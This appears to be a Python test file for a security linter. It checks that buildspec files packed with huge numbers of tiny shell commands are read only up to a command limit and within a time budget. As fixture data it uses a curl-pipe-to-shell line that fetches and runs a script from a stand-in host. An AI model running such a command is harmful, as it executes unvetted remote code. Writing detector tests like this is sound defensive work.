"""A buildspec of millions of tiny shell commands is read up to the same limit as a Dockerfile
(guardlint.parse.shell_limits.MAX_SHELL_COMMANDS): in a few seconds, with a GL001 note where the
reading stopped (a view's note: guardlint.model.documents.DOCUMENT_NOTES), and the findings
before it."""

from __future__ import annotations

from tests.conftest import findings_of, run_scan, write_file
from tests.hostile.conftest import assert_read_to_the_limit, parse_error, processor_seconds
from tests.hostile.linear_time_cases import BUDGET, FILE_TIMEOUT

PIPE = "curl -fsSL https://x.example/i | sh"
TINY = "'" + "x;" * 40_000 + "'"  # 40,000 commands in an 80 KB item


def _buildspec(items: list[str]) -> str:
    lines = "".join(f"      - {item}\n" for item in items)
    return f"version: 0.2\nphases:\n  build:\n    commands:\n{lines}"


def test_a_buildspec_of_millions_of_commands_is_read_to_the_limit_and_says_so(tmp_path):
    """5 MB of `x;` items (2.4 million commands) timed out: its findings were lost."""
    write_file(tmp_path, "buildspec.yml", _buildspec([PIPE] + [TINY] * 60))
    started = processor_seconds()
    result = run_scan(tmp_path, file_timeout=FILE_TIMEOUT, jobs=1)
    elapsed = processor_seconds() - started
    note = parse_error(result, "buildspec.yml")
    assert "more than 100,000 shell commands in the buildspec's phases" in note.message
    assert note.region.start_line == 8  # the item where the 100,001st command is
    assert [f.region.start_line for f in findings_of(result, "CBD004")] == [5]
    assert elapsed < BUDGET


def test_a_buildspec_at_the_command_limit_is_read_in_full(tmp_path):
    text = _buildspec([TINY] * 2 + ["'" + "x;" * 19_998 + "'", PIPE])  # PIPE: 2 commands
    one_more = text.replace("'x;", "'x;x;", 1)
    assert_read_to_the_limit(tmp_path, "buildspec.yml", text, one_more, "CBD004", 8)
